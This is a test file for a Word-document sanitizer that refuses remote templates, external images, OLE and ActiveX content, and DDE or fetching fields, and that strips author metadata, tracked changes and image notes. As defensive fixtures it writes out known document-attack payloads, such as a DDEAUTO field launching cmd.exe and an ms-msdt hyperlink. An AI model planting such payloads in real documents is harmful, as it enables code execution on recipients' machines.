import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { expect, test } from "vitest";
import type { AppError } from "../../errors.ts";
import { parseXml } from "../package/xml.ts";
import { docxFile, p, type Parts, run, TITLE } from "../fixtures/docx-file.ts";
import { parseReport } from "../read-report.ts";
import { readPlainText } from "../read-plain-text.ts";
import { cleanDocx } from "./clean-docx.ts";

const RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const relationships = (...rows: string[]) => `<Relationships>${rows.join("")}</Relationships>`;
const relationship = (kind: string, target: string, more = "") =>
  `<Relationship Id="rId1" Type="${RELS}/${kind}" Target="${target}" ${more}/>`;
const BODY = `${TITLE}${p("一、公开陈述")}${p("真实。")}`;
const withList = (...rows: string[]): Parts => ({ "word/_rels/document.xml.rels": relationships(...rows) });
const EXTERNAL = 'TargetMode="External"';
const field = (...pieces: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

function refusal(run_: () => unknown): AppError | null {
  try {
    run_();
    return null;
  } catch (error) {
    return error as AppError;
  }
}

test.each<[string, Uint8Array, string]>([
  [
    "a remote template",
    docxFile(
      BODY,
      {},
      {
        "word/_rels/settings.xml.rels": relationships(
          relationship("attachedTemplate", "https://x.example/a.dotm", EXTERNAL),
        ),
      },
    ),
    "远程模板",
  ],
  [
    "a template on a server of files",
    docxFile(
      BODY,
      {},
      {
        "word/_rels/settings.xml.rels": relationships(
          relationship("attachedTemplate", "\\\\x.example\\a.dotm", EXTERNAL),
        ),
      },
    ),
    "远程模板",
  ],
  [
    "a picture from elsewhere",
    docxFile(BODY, {}, withList(relationship("image", "https://x.example/dot.png", EXTERNAL))),
    "外链图片",
  ],
  [
    "an OLE object",
    docxFile(BODY, {}, { ...withList(relationship("oleObject", "embeddings/a.bin")), "word/embeddings/a.bin": "x" }),
    "OLE",
  ],
  [
    "a link to an OLE object",
    docxFile(BODY, {}, withList(relationship("oleObject", "mhtml:https://x.example/a.html!x-usc:", EXTERNAL))),
    "OLE",
  ],
  [
    "a link that starts a program",
    docxFile(BODY, {}, withList(relationship("hyperlink", "ms-msdt:/id PCWDiagnostic", EXTERNAL))),
    "从别处",
  ],
  ["an ActiveX control", docxFile(BODY, {}, { "word/activeX/activeX1.xml": "<ax/>" }), "ActiveX"],
  [
    "a relationship with > in its address",
    docxFile(BODY, {}, withList('<Relationship Id="a>" Target="https://x/" TargetMode="External" Type="a/image"/>')),
    "外链图片",
  ],
  ["a DDE field", docxFile(`${BODY}${field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')}`), "DDE"],
  ["a DDE field in pieces", docxFile(`${BODY}${field("DD", "EAUTO ", "c:\\\\a.exe")}`), "DDE"],
  ["a DDE field spelt in numbers", docxFile(`${BODY}${field("QUOTE 68 68 69 65 85 84 79")}`), "DDE"],
  [
    "a field that fetches a picture",
    docxFile(`${BODY}${field('INCLUDEPICTURE "https://x.example/a.png" \\d')}`),
    "从别处",
  ],
  [
    "a field that fetches a text, in pieces",
    docxFile(`${BODY}${field(" INCLUDE", 'TEXT "\\\\host\\a.docx"')}`),
    "从别处",
  ],
  ["a link to a table elsewhere", docxFile(`${BODY}${field("LINK Excel.Sheet.12 C:\\a.xlsx R1C1")}`), "从别处"],
  ["a simple DDE field", docxFile(`${BODY}<w:p><w:fldSimple w:instr=" dde excel x "/></w:p>`), "DDE"],
])("%s is refused, as a report and as an attachment", (_, bytes, says) => {
  for (const error of [refusal(() => parseReport(bytes, "a.docx")), refusal(() => cleanDocx(bytes))]) {
    expect(error?.message).toContain(says);
    expect(error?.message).toContain("请");
  }
});

test.each<[string, Parts, string]>([
  ["a table embedded in a chart", { "word/embeddings/a.xlsx": "PK" }, "嵌着别的文件"],
  ["a part of no known kind", { "word/media/a.exe": "MZ" }, "部件"],
  ["a picture whose place cannot be taken out", { "word/media/a.png": Uint8Array.of(0x49, 0x49, 0x2a, 0) }, "图片"],
  ["another encoding", { "word/footer1.xml": strToU8('<?xml version="1.0" encoding="utf-7"?><w:ftr/>') }, "损坏"],
])("%s is refused as an attachment", (_, parts, says) => {
  expect(refusal(() => cleanDocx(docxFile(BODY, {}, parts)))?.message).toContain(says);
});

const chunk = (name: string, content: string) =>
  `\0\0\0${String.fromCharCode(content.length)}${name}${content}\0\0\0\0`;
const picture = Uint8Array.from(
  `\x89PNG\r\n\x1a\n${chunk("IHDR", "0123456789abc")}${chunk("tEXt", "Author Zhang")}${chunk("IDAT", "x")}${chunk("IEND", "")}`,
  (char) => char.charCodeAt(0),
);

test("nothing of a Word file names its author afterwards, and what it says is all there", async () => {
  const bytes = docxFile(
    `${TITLE}<w:p w:rsidR="00ZHANG1">${run("一、公开陈述")}</w:p><w:ins w:id="1" w:author="Zhang San" w:date="2026-01-01T00:00:00Z">${p("真实&amp;可靠。")}</w:ins><w:drawing><wp:docPr id="1" name="p" descr="C:\\Users\\Zhang\\照片.jpg"/></w:drawing>`,
    {
      settings:
        '<w:rsids><w:rsid w:val="00ZHANG2"/></w:rsids><w:attachedTemplate r:id="rId1"/><w:docVars><w:docVar w:name="a" w:val="Zhang"/></w:docVars>',
      comments: `<w:comment w:id="0" w:author="Zhang San" w:initials="ZS">${p("批注的话")}</w:comment>`,
    },
    {
      "docProps/core.xml": "<cp><creator>Zhang</creator></cp>",
      "docProps/app.xml": "<Properties><Company>Zhang Ltd</Company></Properties>",
      "docProps/thumbnail.jpeg": "Zhang",
      "customXml/item1.xml": "<a>Zhang</a>",
      "word/people.xml": '<w15:people><w15:person w15:author="Zhang"/></w15:people>',
      "word/media/image1.png": picture,
      "word/_rels/settings.xml.rels": relationships(
        relationship("attachedTemplate", "file:///C:\\Users\\Zhang\\a.dotm", EXTERNAL),
      ),
      "word/_rels/document.xml.rels": relationships(
        relationship("hyperlink", "https://example.cn/", EXTERNAL),
        relationship("hyperlink", "file:///C:/Users/Zhang/x.docx", EXTERNAL),
        relationship("people", "people.xml"),
        relationship("image", "media/image1.png"),
      ),
    },
  );
  const cleaned = cleanDocx(bytes);
  const parts = unzipSync(cleaned);
  expect(Object.keys(parts).filter((name) => /docProps|customXml|people/.test(name))).toEqual([]);
  for (const [name, part] of Object.entries(parts)) {
    const text = strFromU8(part, true) + strFromU8(part);
    for (const word of ["Zhang", "ZHANG", "ZS", "2026-01-01"]) expect(text, name).not.toContain(word);
  }
  expect(strFromU8(parts["word/_rels/document.xml.rels"] ?? new Uint8Array())).toContain("https://example.cn/");
  const text = await readPlainText(cleaned, "a.docx");
  expect(text).toBe(await readPlainText(bytes, "a.docx"));
  expect(text).toContain("真实&可靠。");
});

test("what was struck out, commented on or looked otherwise before is gone; what was added and moved here stays", () => {
  const by = 'w:id="1" w:author="Zhang San" w:date="2026-01-01T00:00:00Z"';
  const deleted = (words: string) => `<w:del ${by}><w:r><w:delText>${words}</w:delText></w:r></w:del>`;
  const cleaned = cleanDocx(
    docxFile(
      `${TITLE}<w:p w14:paraId="1A2B3C4D"><w:pPr><w:rPr><w:del ${by}/></w:rPr><w:pPrChange ${by}><w:pPr><w:pStyle w:val="Former"/></w:pPr></w:pPrChange></w:pPr>
        <w:commentRangeStart w:id="0"/><w:ins ${by}>${run("加上的话")}${deleted("加了又删")}</w:ins><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>
        ${deleted("删去的话")}<w:moveFromRangeStart ${by} w:name="Zhang"/><w:moveFrom ${by}>${run("原处的话")}</w:moveFrom><w:moveToRangeStart ${by} w:name="Zhang"/><w:moveTo ${by}>${run("移来的话")}</w:moveTo></w:p>
        <w:tbl><w:tr><w:trPr><w:del ${by}/></w:trPr><w:tc>${p("删去的行")}</w:tc></w:tr><w:tr><w:tc>${p("留下的行")}</w:tc></w:tr></w:tbl>`,
      { comments: `<w:comment w:id="0" w:author="Zhang San">${p("批注的话")}</w:comment>` },
    ),
  );
  const parts = Object.values(unzipSync(cleaned)).map((part) => strFromU8(part));
  const all = parts.join("\n");
  for (const word of ["批注的话", "删去的", "加了又删", "原处的话", "Former", "Zhang", "1A2B3C4D", "commentR", "w:ins"])
    expect(all).not.toContain(word);
  for (const word of ["加上的话", "移来的话", "留下的行"]) expect(all).toContain(word);
  for (const part of parts) expect(() => parseXml(part)).not.toThrow();
});

const GIF_START = "GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff";
const GIF_IMAGE = ",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0";
const GIF_LOOP = "!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0";
const GIF_CONTROL = "!\xf9\x04\0\x0a\0\0\0";
const latin1 = (text: string) => Uint8Array.from(text, (char) => char.charCodeAt(0));
const pictureIn = (bytes: Uint8Array, name: string) => {
  const parts = unzipSync(cleanDocx(docxFile(BODY, {}, { [name]: bytes })));
  return strFromU8(parts[name] ?? new Uint8Array(), true);
};

test("a GIF loses comments, notes of programs and what follows its end, and moves as before", () => {
  const comment = "!\xfe\x08by Zhang\0";
  const xmp = "!\xff\x0bXMP DataXMP\x05Zhang\0";
  const gif = `${GIF_START}${GIF_LOOP}${comment}${GIF_CONTROL}${GIF_IMAGE}${xmp};Zhang`;
  expect(pictureIn(latin1(gif), "word/media/a.gif")).toBe(`${GIF_START}${GIF_LOOP}${GIF_CONTROL}${GIF_IMAGE};`);
  for (const broken of [`${GIF_START};`, `${GIF_START}${GIF_IMAGE}`, `${GIF_START}${comment.slice(0, 5)}`, "GIF89a"])
    expect(refusal(() => pictureIn(latin1(broken), "word/media/a.gif"))?.message).toContain("图片");
});

test("a drawing of vectors loses its description; one that holds a photograph's notes is refused", () => {
  const emf = new Uint8Array(120);
  const view = new DataView(emf.buffer);
  for (const [at, value] of [
    [0, 1],
    [4, 108],
    [40, 0x464d4520],
    [60, 5],
    [64, 100],
  ] as const)
    view.setUint32(at, value, true);
  for (const [at, char] of Array.from("Zhang").entries()) view.setUint16(100 + 2 * at, char.charCodeAt(0), true);
  const cleaned = pictureIn(emf, "word/media/a.emf");
  expect(cleaned.replaceAll("\0", "")).not.toContain("Zhang");
  expect(cleaned).toHaveLength(120);
  for (const note of ["..Exif\0\0II*", '..<?xpacket begin=""..'])
    expect(refusal(() => pictureIn(latin1(note), "word/media/a.wmf"))?.message).toContain("图片");
});

test("what stands before, between and behind the parts of the zip is gone", () => {
  const tail = new Uint8Array([...docxFile(BODY), ...strToU8("%PDF-1.7 <script>")]);
  const cleaned = strFromU8(cleanDocx(tail), true);
  expect(cleaned).not.toContain("%PDF");
  expect(cleaned).not.toContain("<script>");
  expect(refusal(() => cleanDocx(zipSync({ "a.txt": strToU8("x") })))?.message).toContain("不是 Word");
});

test("a local template and an ordinary link are no reason to refuse a report", () => {
  const bytes = docxFile(
    BODY,
    {},
    {
      "word/_rels/settings.xml.rels": relationships(
        relationship("attachedTemplate", "file:///C:\\Templates\\Normal.dotm", EXTERNAL),
      ),
      ...withList(
        relationship("hyperlink", "https://example.cn/", EXTERNAL),
        relationship("package", "embeddings/chart.xlsx"),
      ),
    },
  );
  expect(parseReport(bytes, "a.docx").sections).toHaveLength(1);
});
